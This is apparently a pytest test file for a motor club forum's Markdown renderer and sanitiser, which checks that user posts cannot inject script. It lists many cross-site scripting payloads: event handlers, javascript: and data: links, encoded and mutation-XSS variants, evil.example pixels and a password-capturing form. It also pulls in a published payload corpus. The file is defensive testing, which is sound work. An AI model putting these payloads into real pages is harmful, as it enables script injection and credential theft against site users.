"""Members' Markdown: what it may become, and what no text may ever become."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import pytest
from brs_kb import payloads
from hypothesis import given
from hypothesis import strategies as st

from motorclub_forum.shared.text import LONG_TEXT, excerpt, render, sanitise

pytestmark = pytest.mark.once

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example></script>",
    "<<script>alert(1)//<</script>",
    "</p><script>alert(1)</script><p>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="/files/a.png" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>*{background:url('javascript:alert(1)')}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;inset:0'>over the page</p>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<button onclick=alert(1)>Free tyres</button>",
    "<form action='https://evil.example'><input name=password></form>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](feed:javascript:alert(1))",
    "[x](blob:https://ok.example/1)",
    "[x](ftp://evil.example)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: <javascript:alert(1)>",
    '[x](https://ok.example "t\\" onmouseover=alert(1) x=\\"")',
    "[x](https://ok.example '\"onmouseover=alert(1)')",
    '[x](https://ok.example/"onmouseover=alert(1)//)',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "<javascript:alert(1)>",
    "<https://ok.example/\"onmouseover='alert(1)'>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](/files/../auth/logout)",
    "![x](/files/%2e%2e/auth/logout)",
    "![x](/files/a.png?next=https://evil.example)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](/files\\\\evil.example/a.png)",
    '![" onerror="alert(1)](/files/a.png)',
    "![<script>alert(1)</script>](/files/a.png '\" onerror=alert(1)')",
    '![" onerror="alert(1)](https://evil.example/x.png)',
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "```<img/onerror=alert(1)>\ncode\n```",
    '```js" onclick="alert(1)\ncode\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "- <b>\n  <script>alert(1)</script>",
    "> </blockquote><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "# <h1 onclick=alert(1)>\n## </h3><script>alert(1)</script>",
    "<a\nhref='javas\ncript:alert(1)'>x</a>",
    "**<b onmouseover=alert(1)>x**</b>",
    "<p id=answer-1 class=MuiDialog-root name=location>clobber</p>",
    "\ufeff<script>alert(1)</script>\u2028<img src=x onerror=alert(1)>",
]


# What would run, and the places in Markdown where it could stand: each with each, plain and in disguise.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><svg onload=alert(1)>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "<math><mtext><style><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import 'javascript:alert(1)'</style>",
    "@joe<script>alert(1)</script>",
)
CONTEXTS = (
    "{}",
    "# {}",
    "> {}",
    "- {}\n- {}",
    "**{}**",
    "`{}`",
    "```{}\n{}\n```",
    "[x]({})",
    "[{}](https://ok.example)",
    "![{}](/files/a.png)",
    "![x]({} '{}')",
    "[x][y]\n\n[y]: {}",
    "<{}>",
    "| a |\n|---|\n| {} |",
    "@joe {} @joe",
)


def entities(text: str) -> str:
    """Each character as a number."""
    return "".join(f"&#x{ord(character):x};" for character in text)


def percents(text: str) -> str:
    """As in addresses."""
    return quote(text, safe="")


def broken(text: str) -> str:
    """With what browsers overlook between the letters."""
    return "\x09".join(text)


DISGUISES = (str, str.upper, entities, percents, broken)
MADE = [
    context.replace("{}", disguise(payload))
    for context in CONTEXTS
    for payload in PAYLOADS
    for disguise in DISGUISES
]


class Seen(HTMLParser):
    """Every element and attribute of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.odd: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)


def harmless(html: str) -> None:
    """Fails unless every element, attribute and address of `html` is one that members may use."""
    seen = Seen(html)
    assert seen.odd == []
    for tag, attributes in seen.elements:
        allowed = LONG_TEXT.attributes.get(tag, set()) | ({"rel"} if tag == "a" else set())
        assert tag in LONG_TEXT.elements, html
        assert set(attributes) <= allowed, html
        assert tag != "a" or attributes.get("rel") == "nofollow ugc noopener", html
        assert urlsplit(attributes.get("href", "").strip().lower()).scheme in (
            "",
            "http",
            "https",
            "mailto",
            "tel",
        ), html
        assert tag != "img" or attributes.get("src", "/files/").startswith("/files/"), html
        assert ".." not in attributes.get("src", ""), html
    # A second parse finds the same tree: nothing changes its meaning between our parser and a browser's.
    assert sanitise(html) == html


def test_the_judge_condemns() -> None:
    """The control of `harmless`: raw HTML of each family is not harmless."""
    for raw in (
        "<script>1</script>",
        '<p onclick="x">y</p>',
        '<a href="javascript:x" rel="nofollow ugc noopener">y</a>',
        '<a href="https://ok.example">y</a>',
        '<img src="https://evil.example/x.gif">',
        '<img src="/files/../x">',
        "<!-- x -->",
        "<b>unclosed",
    ):
        with pytest.raises(AssertionError):
            harmless(raw)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless(text: str) -> None:
    """Rendered, sanitised alone (as if the renderer had let everything through), and both inside other text."""
    harmless(render(text))
    harmless(sanitise(text))
    harmless(render(f"Before\n\n{text}\n\n* {text}\n\n> **{text}**\n\n| a |\n|---|\n| {text} |"))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless_when_posted(text: str) -> None:
    """An excerpt is plain text for whoever shows it as text; it never grows beyond its length."""
    assert len(excerpt(text * 40)) <= 200


def test_each_payload_in_each_place_is_harmless() -> None:
    """15 places x 12 payloads x 5 disguises, in a post that also names somebody, and sanitised alone."""
    assert len(MADE) + len(HOSTILE) > 500
    for text in (*MADE, *HOSTILE):
        harmless(render(text, {"joe": 7}))
        harmless(sanitise(text))
        assert len(excerpt(text * 10)) <= 200


def test_a_published_corpus_is_harmless() -> None:
    """Thousands of inputs that others have collected, many of which went past a filter once: BRS-KB, with SecLists."""
    corpus = {entry.payload for entry in payloads.FULL_PAYLOAD_DATABASE.values()}
    assert len(corpus) > 4_000
    for text in sorted(corpus):
        harmless(render(text, {"joe": 7}))


@given(
    st.lists(
        st.sampled_from([*HOSTILE, "\n", "\n\n", " ", "*", "`", "|", ">", "[", "](", "- ", "<", '"']),
        max_size=6,
    )
)
def test_no_mixture_is_harmful(parts: list[str]) -> None:
    """Hostile pieces, glued together with the signs of Markdown."""
    harmless(render("".join(parts)))


@given(st.text(max_size=300))
def test_any_text_can_be_rendered(text: str) -> None:
    """No text makes the renderer raise."""
    harmless(render(text))
    excerpt(text)


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("# Big\n## Small", "<h3>Big</h3>\n<h4>Small</h4>"),
        ("###### Least", "<h6>Least</h6>"),
        ("~~old~~ *new* **now**", "<p><s>old</s> <em>new</em> <strong>now</strong></p>"),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ("3. third", '<ol start="3">\n<li>third</li>\n</ol>'),
        ("```python\nx < 1\n```", '<pre><code class="language-python">x &lt; 1\n</code></pre>'),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        (
            "[shop](https://ok.example/a?b=1&c=2 'Parts')",
            '<p><a href="https://ok.example/a?b=1&amp;c=2" title="Parts" rel="nofollow ugc noopener">shop</a></p>',
        ),
        (
            "<https://ok.example>",
            '<p><a href="https://ok.example" rel="nofollow ugc noopener">https://ok.example</a></p>',
        ),
        ("[q](/questions/7)", '<p><a href="/questions/7" rel="nofollow ugc noopener">q</a></p>'),
        (
            "[m](mailto:a@ok.example)",
            '<p><a href="mailto:a@ok.example" rel="nofollow ugc noopener">m</a></p>',
        ),
        ("![Belt](/files/b/1.webp)", '<p><img src="/files/b/1.webp" alt="Belt" loading="lazy"></p>'),
        (
            "![Belt](https://elsewhere.example/b.png)",
            '<p><a href="https://elsewhere.example/b.png" rel="nofollow ugc noopener">Belt</a></p>',
        ),
        ("<b>bold?</b> & more", "<p>&lt;b&gt;bold?&lt;/b&gt; &amp; more</p>"),
    ],
)
def test_what_members_write_looks_as_they_mean_it(markdown: str, html: str) -> None:
    """CommonMark with tables and strikethrough; headings begin below the page's own."""
    assert render(markdown) == html


def test_columns_are_aligned_without_styles() -> None:
    """The page's policy refuses style attributes."""
    html = render("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    assert [html.count(f'align="{side}"') for side in ("left", "center", "right")] == [2, 2, 2]
    assert "style" not in html


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("## Noise\n\nAt *30 km/h*, see [film](https://ok.example)", "Noise At 30 km/h, see film"),
        ("Before\n\n```\ncode\n```\n\nafter `x = 1`", "Before after x = 1"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "a b 1 2"),
        ("![Picture](/files/a.png) <b>&amp;</b>", "Picture <b>&</b>"),
        ("- one\n- two", "one two"),
        ("x" * 500, "x" * 199 + "…"),
        ("word " * 100, "word " * 39 + "word…"),
    ],
)
def test_an_excerpt_is_plain_text(markdown: str, text: str) -> None:
    """Words only, cut between two of them."""
    assert excerpt(markdown) == text


@pytest.mark.parametrize(
    ("typed", "href"),
    [
        ("https://ok.example/a_b_c?x=1&copy=2#top", "https://ok.example/a_b_c?x=1&amp;copy=2#top"),
        ("HTTP://ok.example/Brake_(disc)", "HTTP://ok.example/Brake_(disc)"),
        ("www.ok.example/ü", "https://www.ok.example/%C3%BC"),
        ("http://localhost:5000/@joe", "http://localhost:5000/@joe"),
    ],
)
def test_addresses_become_links(typed: str, href: str) -> None:
    """Without the signs of the sentence around them; names in them are part of them."""
    link = f'<a href="{href}" rel="nofollow ugc noopener">{typed.replace("&", "&amp;")}</a>'
    people = {"joe": 7}
    assert render(f"See ({typed}), ok?", people) == f"<p>See ({link}), ok?</p>"
    assert render(f"**{typed}**", people) == f"<p><strong>{link}</strong></p>"


@pytest.mark.parametrize(
    "source",
    [
        "ftp://ok.example",
        "javascript:https://ok.example",
        "me@www.ok.example",
        "https://",
        "www.",
        "xhttps://a.b",
    ],
)
def test_what_is_no_address_stays_words(source: str) -> None:
    """Other schemes, parts of words, and what leads nowhere."""
    assert "<a" not in render(source)
    assert "<a" not in render(f"`https://ok.example {source}`")
